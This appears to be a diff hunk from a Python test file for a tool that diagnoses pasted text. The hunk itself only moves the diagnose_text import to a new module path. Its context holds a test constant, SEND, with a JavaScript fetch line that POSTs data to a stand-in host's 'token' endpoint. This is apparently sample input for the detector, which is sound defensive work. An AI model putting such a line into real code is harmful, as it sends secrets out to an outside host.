@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 from sickbay.diagnosis.code import Meter, budget, requests_in, settings_in
 from sickbay.diagnosis.code.budget import BudgetSpent
 from sickbay.diagnosis.code.values import CHARACTERS_OF_A_TEXT, PAIRS_OF_FIELDS
-from sickbay.diagnosis.pasted_text import diagnose_text
+from sickbay.doctor.text import diagnose_text
 
 SEND = 'fetch("https://a.example/token", {method: "POST", body: BODY});\n'
 BOMBS = {
